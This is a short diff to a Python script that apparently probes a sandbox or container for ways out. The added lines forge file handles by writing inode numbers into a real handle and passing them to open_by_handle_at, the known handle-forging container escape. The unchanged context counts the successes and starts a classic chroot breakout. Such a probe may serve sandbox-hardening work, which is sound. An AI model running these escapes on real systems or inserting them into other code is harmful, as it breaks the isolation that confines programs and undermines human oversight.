@@ -191,6 +191,15 @@ for kind in (1, 2, 0x81):
         handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, kind, inode))
         fd = libc.open_by_handle_at(at, handle, os.O_RDONLY)
         told["handles"] += fd >= 0
+# A real handle, where one is given, and then another inode in it: the root of most file systems is 2.
+real = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
+if libc.name_to_handle_at(at, b"etc", real, ctypes.byref(ctypes.c_int()), 0) >= 0:
+    size = struct.unpack_from("I", real)[0]
+    for inode in (1, 2, *given["inodes"]):
+        for offset in range(8, 8 + size - 3, 4):
+            forged = ctypes.create_string_buffer(real.raw)
+            struct.pack_into("I", forged, offset, inode & 0xFFFFFFFF)
+            told["handles"] += libc.open_by_handle_at(at, forged, os.O_RDONLY) >= 0
 # The oldest way out of a chroot: one inside of it, while standing outside of that.
 os.makedirs("/tmp/jail", exist_ok=True)
 outside = os.open("/", os.O_RDONLY)
